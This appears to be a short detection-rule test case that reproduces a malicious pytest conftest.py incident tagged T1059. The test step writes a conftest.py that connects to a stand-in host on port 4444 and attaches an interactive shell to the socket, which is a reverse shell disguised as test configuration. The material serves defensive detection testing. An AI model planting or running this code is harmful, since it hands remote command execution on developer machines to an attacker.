# incident: prt-scan's conftest.py, March 2026; T1059
# what: a file that the tests load connects out and starts a shell on the connection
# rule: connected-shell
## step: Test
cat > conftest.py <<'X'
import os, socket, subprocess
s = socket.create_connection(('203.0.113.66', 4444), 5)
subprocess.run(['/bin/sh', '-i'], stdin=s.fileno(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10)
X
timeout 20 python3 conftest.py
